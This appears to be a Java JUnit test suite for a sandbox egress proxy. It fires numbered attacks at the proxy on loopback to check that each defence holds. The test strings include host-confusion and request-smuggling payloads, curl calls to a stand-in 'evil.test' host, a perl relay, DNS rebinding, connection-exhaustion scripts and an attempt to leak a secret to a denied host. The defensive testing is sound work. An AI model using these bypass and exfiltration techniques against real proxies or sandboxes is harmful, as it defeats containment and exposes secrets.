package dev.paddock.egress;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.paddock.egress.EgressSecret.Place;
import dev.paddock.egress.TestingProxy.Setup;
import dev.paddock.egress.TestingRange.Attack;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.EnumSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.function.BooleanSupplier;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Attacks 31 to 45 of {@code docs/sandbox.md}, and 52: the way out. The only addresses that are
 * dialled are loopback addresses of this machine.
 */
@EnabledOnOs(OS.LINUX)
final class EgressAttackTest {
  private static final String CURL = "curl -s -k -m 10 -o /dev/null ";

  /** Where nobody must arrive; and where a request is allowed to. */
  private TestingServer canary;

  private TestingServer allowed;
  private TestingRange range;

  @BeforeEach
  void start() throws Exception {
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/socat")), "needs socat");
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/curl")), "needs curl");
    canary = TestingServer.answering("canary");
    allowed = TestingServer.answering(seen -> TestingServer.ok("allowed"));
    range = range(Setup.allowing("allowed.test:" + allowed.port(), "*.allowed.test"));
  }

  private static TestingRange range(Setup setup) throws IOException {
    return new TestingRange(setup)
        .name("allowed.test", "127.0.0.1")
        .name("sub.allowed.test", "127.0.0.1")
        .name("evil.test", "127.0.0.1")
        .name("evilallowed.test", "127.0.0.1")
        .name("allowed.test.evil.test", "127.0.0.1");
  }

  @AfterEach
  void stop() throws Exception {
    if (range != null) {
      range.close();
      canary.close();
      allowed.close();
    }
  }

  /** Whether the canary is reached by a script. */
  private Attack reaches(String script) {
    return round -> {
      int before = canary.connections();
      round.bash(script);
      return canary.connections() > before;
    };
  }

  /** Whether the canary is reached by bytes to the proxy. */
  private Attack reachesRaw(String bytes) {
    return round -> {
      int before = canary.connections();
      round.raw(bytes);
      return canary.connections() > before;
    };
  }

  private String evil() {
    return "evil.test:" + canary.port();
  }

  private String good() {
    return "allowed.test:" + allowed.port();
  }

  @Test
  void theWayOutWorksAtAll() throws Exception {
    try (TestingRange.Round round = range.round()) {
      assertThat(round.bash("curl -s http://" + good() + "/").stdoutText()).isEqualTo("allowed");
    }
  }

  @Test
  void attack31_reachesADeniedHostByHttp() throws Exception {
    range.assertHeldBy(reaches(CURL + "http://" + evil()), EgressMeasure.RULES);
  }

  @Test
  void attack31_reachesADeniedHostByConnect() throws Exception {
    range.assertHeldBy(reaches(CURL + "https://" + evil()), EgressMeasure.RULES);
  }

  @Test
  void attack32_reachesAnotherPortOfAnAllowedHost() throws Exception {
    range.assertHeldBy(reaches(CURL + "http://allowed.test:" + canary.port()), EgressMeasure.RULES);
  }

  @ParameterizedTest
  @ValueSource(strings = {"127.0.0.1", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]"})
  void attack33_namesLoopbackByItsAddress(String address) throws Exception {
    range.setup(Setup.of(EgressPolicy.NOTHING.withUnrestricted()).withPrivate(""));
    String at = address + ":" + canary.port();
    range.assertHeldBy(
        reachesRaw("GET http://%1$s/ HTTP/1.1\\r\\nHost: %1$s\\r\\n\\r\\n".formatted(at)),
        EgressMeasure.ADDRESSES);
  }

  /** Two measures: strict reading, and the guard of addresses. */
  @ParameterizedTest
  @ValueSource(strings = {"127.1", "2130706433", "0x7f000001", "0177.0.0.1"})
  void attack33_spellsLoopbackOtherwise(String spelling) throws Exception {
    range.setup(Setup.of(EgressPolicy.NOTHING.withUnrestricted()).withPrivate(""));
    String at = spelling + ":" + canary.port();
    range.assertHeldBy(
        reachesRaw("GET http://%1$s/ HTTP/1.1\\r\\nHost: %1$s\\r\\n\\r\\n".formatted(at)),
        EgressMeasure.CANONICAL_HOSTS,
        EgressMeasure.ADDRESSES);
  }

  /** The part that is matched is not the part that is looked up. */
  @ParameterizedTest
  @ValueSource(strings = {"evil.test%00.allowed.test", "evil.test%5c.allowed.test"})
  void attack34_hidesTheHostFromTheRules(String host) throws Exception {
    range.setup(Setup.allowing("*.allowed.test"));
    String at = host + ":" + canary.port();
    range.assertHeldBy(
        reachesRaw("CONNECT %1$s HTTP/1.1\\r\\n\\r\\n".formatted(at)),
        EgressMeasure.CANONICAL_HOSTS);
  }

  /** Of these, reading heads byte by byte holds; it has no measure of its own. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET http://EVIL\\0.allowed.test/ HTTP/1.1\\r\\nHost: EVIL\\r\\n\\r\\n",
        "GET http://allowed.test@EVIL/ HTTP/1.1\\r\\nHost: EVIL\\r\\n\\r\\n",
        "GET http://allowed.test\\\\@EVIL/ HTTP/1.1\\r\\nHost: EVIL\\r\\n\\r\\n",
        "GET http://GOOD/\\r\\nHost: GOOD\\r\\n\\r\\nGET http://EVIL/ HTTP/1.1\\r\\nHost: EVIL\\r\\n\\r\\n",
        "GET http://GOOD/ HTTP/1.1\\r\\nHost: GOOD\\r\\n Host: EVIL\\r\\n\\r\\n",
        "GET http://\\xef\\xbd\\x85vil.test/ HTTP/1.1\\r\\nHost: EVIL\\r\\n\\r\\n",
        "CONNECT EVIL%00.allowed.test:443 HTTP/1.1\\r\\n\\r\\n",
        "CONNECT allowed.test:443@EVIL HTTP/1.1\\r\\n\\r\\n",
        "GET http://EVIL#.allowed.test/ HTTP/1.1\\r\\nHost: EVIL\\r\\n\\r\\n",
        "GET http:EVIL/ HTTP/1.1\\r\\nHost: EVIL\\r\\n\\r\\n",
        "GET //EVIL/ HTTP/1.1\\r\\nHost: EVIL\\r\\n\\r\\n"
      })
  void attack34_confusesTheReader(String bytes) throws Exception {
    range.assertHeld(reachesRaw(bytes.replace("EVIL", evil()).replace("GOOD", good())));
  }

  @Test
  void attack35_hasAnAllowedNameInItsOwn() throws Exception {
    for (String host : List.of("evilallowed.test", "allowed.test.evil.test")) {
      range.assertHeldBy(
          reaches(CURL + "http://" + host + ":" + canary.port()), EgressMeasure.RULES);
    }
  }

  /** Two measures: a connection is one request, and every request is checked. */
  @Test
  void attack36_asksForAnotherHostOnTheSameConnection() throws Exception {
    range.assertHeldBy(
        reachesRaw(
            ("GET http://%1$s/ HTTP/1.1\\r\\nHost: %1$s\\r\\n\\r\\n"
                    + "GET http://%2$s/ HTTP/1.1\\r\\nHost: %2$s\\r\\nConnection: close\\r\\n\\r\\n")
                .formatted(good(), evil())),
        EgressMeasure.ONE_REQUEST,
        EgressMeasure.RULES);
  }

  @Test
  void attack37_namesAnotherHostInTheHostField() throws Exception {
    range.assertHeldBy(
        round -> {
          allowed.seen.clear();
          round.bash(CURL + "-H 'Host: evil.test' http://" + good() + "/");
          return allowed.seen.stream().anyMatch(seen -> seen.header("host").equals("evil.test"));
        },
        EgressMeasure.HOST_FIELD);
  }

  @Test
  void attack37_smugglesARequestInABody() throws Exception {
    range.setup(Setup.allowing("http://" + good() + "/public"));
    String smuggled = "0\\r\\n\\r\\nGET /secret HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n";
    int length = smuggled.replace("\\r", "r").replace("\\n", "n").length();
    range.assertHeldBy(
        round -> {
          allowed.seen.clear();
          round.raw(
              ("POST http://%1$s/public HTTP/1.1\\r\\nHost: %1$s\\r\\nContent-Length: %2$d\\r\\n"
                      + "Transfer-Encoding: chunked\\r\\n\\r\\n%3$s")
                  .formatted(good(), length, smuggled));
          BooleanSupplier arrived =
              () -> allowed.seen.stream().anyMatch(seen -> seen.start().contains("/secret"));
          return !allowed.seen.isEmpty() && TestingWait.until(arrived);
        },
        EgressMeasure.FRAMING);
  }

  @Test
  void attack38_relaysWithinTheBox() throws Exception {
    String relay =
        """
        perl -e '
          use IO::Socket::INET;
          my $l = IO::Socket::INET->new(Listen => 1, LocalAddr => "127.0.0.1:4000") or die;
          open(R, ">", "ready"); close(R);
          my $c = $l->accept;
          my $p = IO::Socket::INET->new(PeerAddr => "127.0.0.1:3128") or die;
          if (fork) { while (sysread($c, my $b, 4096)) { syswrite($p, $b) } }
          else { while (sysread($p, my $b, 4096)) { syswrite($c, $b) } }
        ' &
        until [ -e ready ]; do sleep 0.01; done
        """;
    range.assertHeldBy(
        reaches(relay + CURL + "-m 4 --proxy http://127.0.0.1:4000 https://" + evil()),
        EgressMeasure.RULES);
  }

  private TestingServer tls() throws IOException {
    return new TestingServer(
        new CertificateAuthority()
            .contextFor(Host.parse("evil.test"))
            .getServerSocketFactory()
            .createServerSocket(0, 50, InetAddress.getLoopbackAddress()),
        seen -> TestingServer.ok("canary"));
  }

  @Test
  void attack39_talksToAnotherServerBehindAnAllowedName() throws Exception {
    try (TestingServer fronted = tls()) {
      int port = fronted.port();
      range.setup(Setup.allowing("allowed.test:" + port));
      range.assertHeldBy(
          round -> {
            fronted.seen.clear();
            round.bash(
                CURL
                    + "--connect-to evil.test:%1$d:allowed.test:%1$d https://evil.test:%1$d"
                        .formatted(port));
            return !fronted.seen.isEmpty();
          },
          EgressMeasure.SERVER_NAME);
    }
  }

  private Attack tunnels(byte[] first) {
    StringBuilder escaped = new StringBuilder();
    for (byte b : first) {
      escaped.append("\\x").append(HexFormat.of().toHexDigits(b));
    }
    return round -> {
      try (TestingListener listener = new TestingListener()) {
        round.proxy().proxy.policy(EgressPolicy.of(List.of("allowed.test:" + listener.port())));
        round.raw(
            "CONNECT allowed.test:%d HTTP/1.1\\r\\n\\r\\n%s".formatted(listener.port(), escaped));
        return listener.received() > 0;
      }
    };
  }

  @Test
  void attack39_hidesTheServerNameByEncryption() throws Exception {
    range.assertHeldBy(
        tunnels(TestingHello.of(Optional.of("allowed.test"), true)),
        EgressMeasure.NO_ENCRYPTED_HELLO);
  }

  @Test
  void attack39_namesNoServer() throws Exception {
    range.assertHeldBy(
        tunnels(TestingHello.of(Optional.empty(), false)), EgressMeasure.SERVER_NAME);
  }

  @Test
  void attack40_isAllowedANameThatLeadsToLoopback() throws Exception {
    range.setup(Setup.allowing("evil.test:" + canary.port()).withPrivate(""));
    range.assertHeldBy(reaches(CURL + "http://" + evil()), EgressMeasure.ADDRESSES);
  }

  /** Nobody listens at the first address; the second one must not be dialled. */
  @Test
  void attack40_changesTheAddressAfterTheCheck() throws Exception {
    range.setup(Setup.allowing("rebound.test:" + canary.port()).withPrivate("127.0.0.9"));
    range.name("rebound.test", "127.0.0.9").name("rebound.test", "127.0.0.1");
    range.assertHeldBy(
        reaches(CURL + "http://rebound.test:" + canary.port()), EgressMeasure.ONE_LOOKUP);
  }

  @Test
  void attack41_isRedirectedToADeniedHost() throws Exception {
    String evil = "http://" + evil() + "/";
    try (TestingServer redirecting =
        TestingServer.answering(
            seen -> "HTTP/1.1 302 Found\r\nLocation: " + evil + "\r\nContent-Length: 0\r\n\r\n")) {
      range.setup(Setup.allowing("allowed.test:" + redirecting.port()));
      range.assertHeldBy(
          reaches(CURL + "-L http://allowed.test:" + redirecting.port()), EgressMeasure.RULES);
    }
  }

  @Test
  void attack42_hasAnEmptyList() throws Exception {
    range.setup(Setup.of(EgressPolicy.of(List.of())));
    range.assertHeldBy(reaches(CURL + "http://" + evil()), EgressMeasure.RULES);
    range.assertHeldBy(reaches(CURL + "https://" + evil()), EgressMeasure.RULES);
  }

  @Test
  void attack43_sendsOtherBytesThanTlsThroughATunnel() throws Exception {
    range.assertHeldBy(
        round -> {
          allowed.seen.clear();
          round.bash(CURL + "--proxytunnel http://" + good());
          return !allowed.seen.isEmpty();
        },
        EgressMeasure.TLS_ONLY);
  }

  private static String open(int connections, String bytes) {
    return """
        perl -e '
          use IO::Socket::INET;
          my @open;
          for (1 .. %d) {
            my $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1:3128") or last;
            $c->autoflush(1);
            print $c "%s";
            push @open, $c;
          }
          open(R, ">", "ready"); close(R);
          sysread($_, my $b, 4096) for @open;
        '
        """
        .formatted(connections, bytes);
  }

  @Test
  void attack44_neverFinishesARequest() throws Exception {
    Duration shortTime = Duration.ofMillis(300);
    range.setup(
        Setup.allowing("allowed.test")
            .with(
                EgressLimits.DEFAULT.withTimes(
                    shortTime, Duration.ofHours(1), Duration.ofHours(1), shortTime)));
    range.assertHeldBy(
        round -> {
          Thread.ofVirtual().start(() -> bashQuietly(round, open(5, "GET http:")));
          assertThat(TestingWait.until(() -> round.proxy().proxy.open() == 5)).isTrue();
          return !TestingWait.until(() -> round.proxy().proxy.open() == 0, 4);
        },
        EgressMeasure.TIME_LIMITS);
  }

  private static void bashQuietly(TestingRange.Round round, String script) {
    try {
      round.bash(script);
    } catch (InterruptedException | RuntimeException closed) { // with the box, by the test
      return;
    }
  }

  @Test
  void attack44_opensManyConnections() throws Exception {
    range.setup(Setup.allowing("allowed.test").with(EgressLimits.DEFAULT.withConnections(10)));
    range.assertHeldBy(
        round -> {
          Thread.ofVirtual().start(() -> bashQuietly(round, open(30, "GET http:")));
          Path ready = round.workspace().resolve("ready");
          assertThat(TestingWait.until(() -> Files.exists(ready))).isTrue();
          return TestingWait.until(() -> round.proxy().proxy.open() > 10, 3);
        },
        EgressMeasure.CONNECTION_LIMIT);
  }

  @Test
  void attack44_sendsAGiantHead() throws Exception {
    String field = "X: \" . ('x' x 200000) . \"\\r\\n";
    range.assertHeldBy(
        round -> {
          allowed.seen.clear();
          round.raw(
              "GET http://%1$s/ HTTP/1.1\\r\\nHost: %1$s\\r\\n%2$s\\r\\n".formatted(good(), field));
          return !allowed.seen.isEmpty();
        },
        EgressMeasure.HEAD_LIMIT);
  }

  @Test
  void attack45_outlivesItsProxy() throws Exception {
    try (TestingRange.Round round = range.round()) {
      String get = "curl -s -m 20 http://" + good() + "/";
      assertThat(round.bash(get).stdoutText()).isEqualTo("allowed");
      round.proxy().proxy.stop();
      assertThat(round.bash(get).stdoutText()).isEmpty();
      assertThat(round.bash(get).exitCode()).isNotZero();
    }
    assertThat(allowed.seen).hasSize(1);
  }

  private static final String PLACEHOLDER = EgressSecret.placeholder("TOKEN");

  private Setup withSecret() {
    EgressSecret secret =
        new EgressSecret(
            PLACEHOLDER,
            "real-value",
            List.of(HostPattern.parse("allowed.test")),
            EnumSet.of(Place.HEADER));
    return Setup.of(EgressPolicy.of(List.of(good(), evil())).withSecrets(List.of(secret)));
  }

  @Test
  void attack52_sendsASecretToAnotherHost() throws Exception {
    range.setup(withSecret());
    range.assertHeldBy(
        round -> {
          canary.seen.clear();
          round.bash(CURL + "-H 'X-Key: " + PLACEHOLDER + "' http://" + evil());
          assertThat(canary.seen).hasSize(1);
          return canary.seen.getFirst().header("x-key").contains("real-value");
        },
        EgressMeasure.SECRET_HOSTS);
  }

  @Test
  void attack52_readsAnEchoedSecret() throws Exception {
    allowed.close();
    allowed = TestingServer.answering(seen -> TestingServer.ok("you sent " + seen.header("x-key")));
    range.setup(withSecret());
    range.assertHeldBy(
        round -> {
          String echo =
              round
                  .bash("curl -s -i -H 'X-Key: " + PLACEHOLDER + "' http://" + good() + "; env")
                  .stdoutText();
          assertThat(echo).contains("you sent ");
          assertThat(round.proxy().record().toString()).doesNotContain("real-value");
          return echo.contains("real-value");
        },
        EgressMeasure.MASKING);
  }
}
